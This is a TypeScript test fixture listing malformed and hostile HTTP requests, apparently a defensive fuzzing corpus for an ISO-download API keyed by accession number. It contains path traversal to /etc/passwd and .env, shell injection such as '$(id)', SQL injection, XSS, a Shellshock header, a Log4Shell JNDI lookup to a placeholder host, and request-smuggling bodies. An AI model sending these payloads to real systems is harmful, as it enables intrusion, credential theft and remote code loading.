/** The list: what a curious person, a scanner or a broken HIS may send. What is between ‹ › in a name is only a name. `EVIL` must never come back. */
import { randomBytes } from 'node:crypto'

export interface Hostile {
  name: string
  bytes: Buffer
  /** Besides any 4xx: a harmless page, or a connection that is closed without a word. */
  also?: readonly number[]
}

const HEAD = 'Host: mkiso\r\nConnection: close\r\n'
const BROWSER = 'Accept: text/html,application/xhtml+xml;q=0.9,*/*;q=0.8\r\n'
const DOWNLOAD = '/api/iso/download?accession_number='

const line = (text: string): Buffer => Buffer.from(text, 'latin1')
const get = (target: string, headers = '', method = 'GET'): Buffer => line(`${method} ${target} HTTP/1.1\r\n${HEAD}${headers}\r\n`)
const named = (group: string, entries: ReadonlyArray<readonly [string, Buffer, (readonly number[])?]>): Hostile[] =>
  entries.map(([name, bytes, also]) => ({ name: `${group}: ${name.slice(0, 70)}`, bytes, ...(also === undefined ? {} : { also }) }))

/** Values of an accession number, already encoded for a link. */
export const VALUES = [
  // DICOM's wildcards, lists and padding
  '*', '%2A', '?', '%3F', 'A*', '*A', 'A%3F1', 'A%5CB', '%5C', 'A%5C*', '**', '%2A%2A', 'A%00*', '%20*', '*%20', 'A,%2A', '%EF%BC%8A', '%EF%BC%9F',
  // nothing
  '', '%20', '%20%20%20', '+', '%09', '%0A', '%0D%0A', '%00', '%C2%A0', '%E2%80%8B', '%EF%BB%BF',
  // headers and lines
  'A%0D%0AX-EVIL:1', 'A%0AX-EVIL:1', 'A%0DX-EVIL:1', 'A%E5%98%8A%E5%98%8DX-EVIL:1', 'A%0D%0A%0D%0AEVIL', 'A%0D%0AContent-Length:0%0D%0A%0D%0A', 'A%C4%8A', 'A%85', 'A%E2%80%A8EVIL',
  // bad UTF-8, surrogates, direction, look-alikes
  '%FF', '%C0%80', '%C0%AF', '%E0%80%AF', '%ED%A0%80', '%F5%80%80%80', '%E2%80%AEEVIL', '%E2%81%A6A', '%D9%A1%D9%A2', '%EF%BC%A1', 'A%CC%81', '%F0%9F%98%80', '%', '%zz', '%u0041', 'A%', '%2',
  // files
  '..', '../EVIL', '..%2F..%2Fetc%2Fpasswd', '%2e%2e%2f', '..%5C..%5Cwindows', '/etc/passwd', '%2Fetc%2Fpasswd', 'A/../../EVIL', 'A%2F..%2FB', '.', './A', '~root', 'A%00.iso', 'C:%5CEVIL',
  // programs
  '-v', '--help', '--', '-k%200008,0050=*', '$(id)', '%24%7BIFS%7D', '%60id%60', 'A;id', 'A%3Bid', 'A|id', 'A%26id', 'A%26%26id', '>%2Ftmp%2FEVIL', '<%2Fetc%2Fpasswd', 'A%0Aid', '!id', '@EVIL', '%25s%25n', '{{7*7}}', '$%7B7*7%7D', '%23{7*7}%3B',
  // databases and pages
  "A'%20OR%20'1'='1", '%22;DROP', '<script>EVIL</script>', '%3Cimg%20src=x%20onerror=EVIL%3E', '"><svg', 'A%27--', 'A%22EVIL%22', '{"$ne":""}', '%5B%5D', 'null%00', 'A%60',
  // length
  'A'.repeat(65), 'A'.repeat(1_000), 'A'.repeat(12_000), '%41'.repeat(65), 'A,'.repeat(5_000)
]

/** A list is what these are about. */
const LISTS = [
  ',', ',,,,', 'A,A', 'A,A,A', '%20,%20', 'A,*', 'A,B,?', 'A,%5C', 'A,B%5CC', 'A,../B', 'A,%0D%0AX-EVIL:1', 'A,-k', 'A,%00', 'A,%FF', `A,${'B'.repeat(65)}`, 'A;*', '*,A',
  Array.from({ length: 21 }, (_, index) => index).join(), Array.from({ length: 2_000 }, (_, index) => index).join()
]

const QUERIES = [
  '', '?', '?accession_number', '?accession_numbers', '?accession_number=A&accession_number=B', '?accession_number[]=A', '?accession_number[0]=A', '?accession_number[x]=A', '?Accession_Number=A', '?ACCESSION_NUMBER=A',
  '?__proto__=EVIL', '?__proto__[accession_number]=A', '?constructor[prototype][x]=EVIL', '?toString=EVIL', '?hasOwnProperty=EVIL', '?accession_number=*&__proto__[x]=EVIL', '??accession_number=A', '?&&&', '?=', '?=A', '?;accession_number=A',
  '?%61ccession_number=*', '?accession_number%00=A', '?accession_number%20=A', '?accession_number=A&disc=0', '?accession_number=A&disc=-1', '?accession_number=A&disc=1e9', '?accession_number=A&disc=EVIL', '?accession_number=A&disc=1&disc=2',
  '?accession_number=A&disc=1000', '?accession_number=A&expires=EVIL', '?accession_number=A&expires=-1', '?accession_number=A&signature=EVIL', `?accession_number=A&signature=${'0'.repeat(10_000)}`, `?${'a&'.repeat(3_000)}`, `?${'x=%00&'.repeat(1_000)}`
]

const PATHS = [
  '/', '//', '///', '/api', '/api/', '/api/iso', '/api/iso/', '/api/iso/download/', '/api/iso//download', '//api/iso/download', '/api//iso/download', '/API/ISO/DOWNLOAD', '/api/iso/download/A', '/api/iso/download.php', '/mkiso.php',
  '/api/iso/download;EVIL', '/api/iso/download%00', '/api/iso/download%20', '/api/iso/download%0d%0aX-EVIL:1', '/api/iso/%64ownload', '/api/iso/download%3Faccession_number=A', '/api/iso/download%23', '/api/iso/../iso/download', '/api/iso/./download',
  '/api/iso/%2e%2e/iso/download', '/%', '/%zz', '/%c0%af', '/%ff', '/%00', '/..', '/../', '/../../etc/passwd', '/..%2f..%2fetc%2fpasswd', '/%2e%2e/%2e%2e/etc/passwd', '/..;/EVIL', '/.env', '/.git/config', '/.htaccess', '/config/mkiso.yaml', '/package.json',
  '/docs/../package.json', '/docs/static/../../package.json', '/docs/static/%2e%2e/%2e%2e/package.json', '/docs/static/..%2f..%2f..%2fpackage.json', '/docs/static/%00', '/docs/static/', '/docs/static/EVIL', '/docs/json/../../x', '/assets/../package.json',
  '/admin', '/actuator', '/server-status', '/wp-login.php', '/cgi-bin/EVIL', '/api/health/EVIL', '/api/health/../iso/download', '/api/iso/download\\..\\print', '\\api\\iso\\download', `/${'a'.repeat(8_000)}`, `/${'a/'.repeat(4_000)}`, `/${'%41'.repeat(2_000)}`,
  'http://EVIL/api/iso/download?accession_number=*', 'http://127.0.0.1:1/api/iso/print', 'https://EVIL', 'file:///etc/passwd', '*', 'EVIL', '?accession_number=A', '#', '/#/api', '/api/iso/download#?accession_number=A'
]

const METHODS = ['POST', 'PUT', 'DELETE', 'PATCH', 'OPTIONS', 'TRACE', 'CONNECT', 'PROPFIND', 'MKCOL', 'LOCK', 'SEARCH', 'get', 'Get', 'EVIL', 'G ET', 'GET\t', '', 'GET GET', 'QUERY', 'M-SEARCH']

const HEADERS = [
  'X-Request-Id: a\x00b\r\n', 'X-Request-Id: EVIL\tEVIL\r\n', `X-Request-Id: ${'EVIL'.repeat(100)}\r\n`, 'X-Request-Id: EVIL"}\r\n', 'X-Request-Id: \xc3\xa4EVIL\r\n', 'X-Request-Id: EVIL/../..\r\n', 'X-Request-Id:\r\n', 'X-Request-Id: EVIL EVIL\r\nX-Request-Id: 2\r\n',
  'X-Forwarded-For: EVIL\r\n', 'X-Forwarded-For: <script>EVIL</script>\r\n', 'X-Forwarded-For: 10.0.0.1, EVIL\r\n', `X-Forwarded-For: ${'1.1.1.1,'.repeat(1_500)}\r\n`, 'X-Forwarded-For: 999.999.999.999\r\n', 'X-Forwarded-For: ::ffff:EVIL\r\n', 'X-Forwarded-For: 10.0.0.1%00\r\n',
  'X-Forwarded-Host: EVIL\r\n', 'X-Forwarded-Proto: EVIL\r\n', 'X-Original-URL: /api/iso/print\r\n', 'X-Rewrite-URL: /api/iso/print\r\n', 'X-HTTP-Method-Override: POST\r\n', 'Forwarded: for=EVIL\r\n', 'X-Remote-User: EVIL\r\n',
  'Range: bytes=EVIL\r\n', 'Range: bytes=0-,0-,0-,0-\r\n', `Range: bytes=${'0-1,'.repeat(3_000)}0-1\r\n`, 'Range: bytes=-9999999999999999999\r\n', 'Range: EVIL=0-1\r\n', 'If-Range: "EVIL\r\n', 'If-None-Match: *\r\n',
  'Accept: EVIL\r\n', 'Accept: text/html;q=EVIL\r\n', `Accept-Language: ${'en;q=0.1,'.repeat(1_500)}\r\n`, 'Accept-Encoding: EVIL\r\n', 'Cookie: EVIL=1\r\n', 'Authorization: Basic EVIL\r\n', 'Authorization: Bearer EVIL\r\n',
  'Origin: http://EVIL\r\n', 'Referer: http://EVIL/\r\n', 'User-Agent: () { :; }; EVIL\r\n', 'User-Agent: %24{jndi:ldap://EVIL}\r\n', 'Content-Type: EVIL\r\n', 'Upgrade: h2c\r\nConnection: Upgrade\r\n', 'Upgrade: websocket\r\nConnection: Upgrade\r\nSec-WebSocket-Key: EVIL\r\n'
]

/** Of these the parser of HTTP has to judge. */
const BROKEN: Array<[string, string]> = [
  ['bare LF', `GET ${DOWNLOAD}* HTTP/1.1\nHost: x\n\n`], ['bare CR', `GET ${DOWNLOAD}* HTTP/1.1\rHost: x\r\r`], ['blank in a header name', `GET / HTTP/1.1\r\n${HEAD}X EVIL: 1\r\n\r\n`], ['blank before the colon', `GET / HTTP/1.1\r\n${HEAD}X-EVIL : 1\r\n\r\n`],
  ['no colon', `GET / HTTP/1.1\r\n${HEAD}EVIL\r\n\r\n`], ['folded header', `GET / HTTP/1.1\r\n${HEAD}X-A: 1\r\n EVIL\r\n\r\n`], ['NUL in a name', `GET / HTTP/1.1\r\n${HEAD}X\0EVIL: 1\r\n\r\n`], ['NUL in a value', `GET / HTTP/1.1\r\n${HEAD}X: \0EVIL\r\n\r\n`],
  ['empty header name', `GET / HTTP/1.1\r\n${HEAD}: EVIL\r\n\r\n`], ['no Host', 'GET / HTTP/1.1\r\nConnection: close\r\n\r\n'], ['two Hosts', `GET / HTTP/1.1\r\n${HEAD}Host: EVIL\r\n\r\n`], ['Host with a path', 'GET / HTTP/1.1\r\nHost: EVIL/..\r\nConnection: close\r\n\r\n'],
  ['HTTP/0.9', `GET ${DOWNLOAD}*\r\n`], ['HTTP/1.2', `GET / HTTP/1.2\r\n${HEAD}\r\n`], ['HTTP/2.0', `GET / HTTP/2.0\r\n${HEAD}\r\n`], ['HTTP/9.9', `GET / HTTP/9.9\r\n${HEAD}\r\n`], ['HTTP/1.EVIL', `GET / HTTP/1.EVIL\r\n${HEAD}\r\n`], ['no version', `GET / \r\n${HEAD}\r\n`],
  ['HTTP/2 preface', 'PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n'], ['blank in the target', `GET ${DOWNLOAD}A B HTTP/1.1\r\n${HEAD}\r\n`], ['tab in the target', `GET ${DOWNLOAD}A\tEVIL HTTP/1.1\r\n${HEAD}\r\n`], ['NUL in the target', `GET ${DOWNLOAD}A\0EVIL HTTP/1.1\r\n${HEAD}\r\n`],
  ['DEL in the target', `GET ${DOWNLOAD}\x7f HTTP/1.1\r\n${HEAD}\r\n`], ['raw 8-bit in the target', `GET ${DOWNLOAD}\xff\xfe HTTP/1.1\r\n${HEAD}\r\n`], ['header of 100 KB', `GET / HTTP/1.1\r\n${HEAD}X: ${'EVIL'.repeat(25_000)}\r\n\r\n`], ['target of 100 KB', `GET ${DOWNLOAD}${'EVIL'.repeat(25_000)} HTTP/1.1\r\n${HEAD}\r\n`],
  ['3000 headers', `GET / HTTP/1.1\r\n${HEAD}${Array.from({ length: 3_000 }, (_, n) => `X${n}: 1\r\n`).join('')}\r\n`], ['half a request', 'GET / HTTP/1.1\r\nHost: x\r\nX-EV'], ['half a method', 'GE'],
  ['TLS', '\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03EVIL'], ['DICOM', '\x01\x00\x00\x00\x00\xcd\x00\x01\x00\x00EVIL            EVIL            '], ['SSH', 'SSH-2.0-EVIL\r\n'], ['SMTP', 'EHLO EVIL\r\n'], ['Redis', '*1\r\n$4\r\nEVIL\r\n'], ['empty lines', '\r\n\r\n\r\n\r\n']
]

const POST = `POST /api/iso/print?accession_number=* HTTP/1.1\r\n${HEAD}`
const BODIES: Array<[string, string]> = [
  ['Content-Length: -1', `${POST}Content-Length: -1\r\n\r\nEVIL`], ['Content-Length: EVIL', `${POST}Content-Length: EVIL\r\n\r\n`], ['Content-Length: 1e3', `${POST}Content-Length: 1e3\r\n\r\n`], ['Content-Length: 99999999999999999999', `${POST}Content-Length: 99999999999999999999\r\n\r\n`],
  ['two lengths', `${POST}Content-Length: 4\r\nContent-Length: 0\r\n\r\nEVIL`], ['lengths in a list', `${POST}Content-Length: 4, 4\r\n\r\nEVIL`], ['length and chunks', `${POST}Content-Length: 4\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\nGET /EVIL HTTP/1.1\r\n\r\n`],
  ['xchunked', `${POST}Transfer-Encoding: xchunked\r\n\r\nEVIL`], ['chunked, identity', `${POST}Transfer-Encoding: chunked, identity\r\n\r\n0\r\n\r\n`], ['chunked twice', `${POST}Transfer-Encoding: chunked\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n`], ['chunk size EVIL', `${POST}Transfer-Encoding: chunked\r\n\r\nEVIL\r\n`],
  ['chunk size beyond all', `${POST}Transfer-Encoding: chunked\r\n\r\nFFFFFFFFFFFFFFFFF\r\n`], ['chunk extension', `${POST}Transfer-Encoding: chunked\r\n\r\n0;EVIL=${'x'.repeat(20_000)}\r\n\r\n`], ['trailer', `${POST}Transfer-Encoding: chunked\r\n\r\n0\r\nX-EVIL: 1\r\n\r\n`], ['too short', `${POST}Content-Length: 100\r\nContent-Type: text/plain\r\n\r\nEVIL`],
  ['bad JSON', `${POST}Content-Type: application/json\r\nContent-Length: 5\r\n\r\n{EVIL`], ['prototype in JSON', `${POST}Content-Type: application/json\r\nContent-Length: 22\r\n\r\n{"__proto__":{"a":1}}x`], ['empty JSON', `${POST}Content-Type: application/json\r\nContent-Length: 0\r\n\r\n`],
  ['XML', `${POST}Content-Type: application/xml\r\nContent-Length: 7\r\n\r\n<EVIL/>`], ['form', `${POST}Content-Type: application/x-www-form-urlencoded\r\nContent-Length: 18\r\n\r\naccession_number=A`], ['multipart without a boundary', `${POST}Content-Type: multipart/form-data\r\nContent-Length: 4\r\n\r\nEVIL`],
  ['gzip that is none', `${POST}Content-Type: application/json\r\nContent-Encoding: gzip\r\nContent-Length: 4\r\n\r\nEVIL`], ['nested 50,000 deep', `${POST}Content-Type: application/json\r\nContent-Length: 50000\r\n\r\n${'['.repeat(50_000)}`], ['2 MB', `${POST}Content-Type: text/plain\r\nContent-Length: 2000000\r\n\r\n${'E'.repeat(2_000_000)}`],
  ['Expect: EVIL', `${POST}Expect: EVIL\r\nContent-Length: 0\r\n\r\n`], ['a body with GET', `GET ${DOWNLOAD}* HTTP/1.1\r\n${HEAD}Content-Length: 4\r\n\r\nEVIL`]
]

export const HOSTILE: readonly Hostile[] = [
  ...VALUES.flatMap(value => named('value', [
    [`download ${value}`, get(DOWNLOAD + value)], [`download-multiple ${value}`, get(`/api/iso/download-multiple?accession_numbers=${value}`)], [`print ${value}`, get(`/api/iso/print?accession_number=${value}`)]
  ])),
  // a list that is right for one route is wrong for the other; these are wrong for all
  ...LISTS.flatMap(value => named('list', [
    [`download-multiple ${value}`, get(`/api/iso/download-multiple?accession_number=${value}`)], [`print ${value}`, get(`/api/iso/print?accession_number=${value}`, 'Content-Length: 0\r\n', 'POST')]
  ])),
  ...named('query', QUERIES.map(query => [query, get(`/api/iso/download${query}`)])),
  // what a browser gets is a page, which may hold the link that was followed, as text
  ...VALUES.flatMap(value => named('page', ['/download', '/print', '/api/iso/download'].map((path): [string, Buffer] => [`${path} ${value}`, get(`${path}?accession_number=${value}`, BROWSER)]))),
  ...named('page path', PATHS.map(path => [path, get(path, BROWSER), [200, 301, 302, 0]])),
  // Swagger UI's own files are no secret
  ...named('path', PATHS.map(path => [path, get(path), [200, 301, 302, 0]])),
  ...named('method', METHODS.map(method => [method, get(`${DOWNLOAD}*`, '', method), [0]])),
  ...named('header', HEADERS.map(header => [header, get(`${DOWNLOAD}*`, header), [0]])),
  ...named('broken', BROKEN.map(([name, text]) => [name, line(text), [0]])),
  ...named('body', BODIES.map(([name, text]) => [name, line(text), [0]])),
  ...named('noise', Array.from({ length: 10 }, (_, n) => [`${n}`, randomBytes(200 * (n + 1)), [0]]))
]
